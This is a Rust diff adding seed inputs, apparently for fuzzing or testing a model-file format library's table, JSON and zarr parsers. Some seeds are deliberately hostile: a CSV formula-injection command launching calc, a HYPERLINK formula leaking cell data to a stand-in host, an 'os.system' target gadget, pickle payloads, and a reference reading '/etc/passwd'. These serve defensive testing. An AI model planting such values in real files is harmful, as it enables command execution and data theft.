@@ -9,7 +9,7 @@ use weighhouse_formats::build::protobuf::Proto;
 use weighhouse_formats::build::tflite;
 use weighhouse_formats::build::{caffe, caffe2, cntk};
 
-use crate::{Seed, TEXT, fixtures, named};
+use crate::{Seed, TEXT, fixtures, named, numbered};
 
 pub(crate) fn coreml() -> Vec<Seed> {
     let mut seeds = fixtures("fixtures/coreml", |name| name.ends_with(".mlmodel"));
@@ -152,3 +152,23 @@ pub(crate) fn xml() -> Vec<Seed> {
     seeds.push(("wide".to_owned(), wide));
     seeds
 }
+
+/// Tables, records, descriptions of arrays and references.
+pub(crate) fn data() -> Vec<Seed> {
+    let written = fixtures("fixtures/tables", |_| true)
+        .into_iter()
+        .chain(fixtures("fixtures/arrays", |name| !name.starts_with("shard")));
+    let records = weighhouse_formats::build::tfrecord::file(&[b"", b"one", b"\x80\x04N."]);
+    written.chain(numbered(DATA)).chain([("records".to_owned(), records)]).collect()
+}
+
+const DATA: &[&str] = &[
+    "a,b\n=cmd|'/C calc'!A0,\"=HYPERLINK(\"\"http://x/?\"\"&A1)\"\n-1,'x\n",
+    "a;b\n@SUM(1)*x|'y'!z;='\\\\h\\s\\[x]y'!A1\n",
+    "{\"a\": 1}\n\n[2]\nbroken\n{\"_target_\": \"os.system\"}\n{\"chat_template\": \"{% if x %}\"}",
+    r#"{"zarr_format": 2, "shape": [6, 4], "chunks": [3, 2], "dtype": "|O", "compressor": {"id": "blosc"}, "filters": [{"id": "pickle"}], "dimension_separator": "/"}"#,
+    r#"{"zarr_format": 3, "node_type": "array", "shape": [8], "data_type": "int16", "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [4]}}, "chunk_key_encoding": {"name": "default", "configuration": {"separator": "/"}}, "codecs": [{"name": "sharding_indexed", "configuration": {"codecs": [{"name": "bytes"}], "index_codecs": [{"name": "crc32c"}]}}], "storage_transformers": []}"#,
+    r#"{"zarr_consolidated_format": 1, "metadata": {"a/.zarray": {"zarr_format": 2, "shape": [], "chunks": []}}}"#,
+    r#"{"version": 1, "templates": {"u": "s3://b"}, "gen": [{"key": "k", "url": "{{u}}/x", "dimensions": {"i": {"stop": 2}}}], "refs": {"x/.zarray": "{\"zarr_format\":2,\"shape\":[2],\"chunks\":[1]}", "x/0": ["{{u}}", 0, 1], "x/1": "base64:AAAA"}}"#,
+    r#"{".zgroup": "{\"zarr_format\":2}", "x/0": ["file:///etc/passwd", 0, 1]}"#,
+];
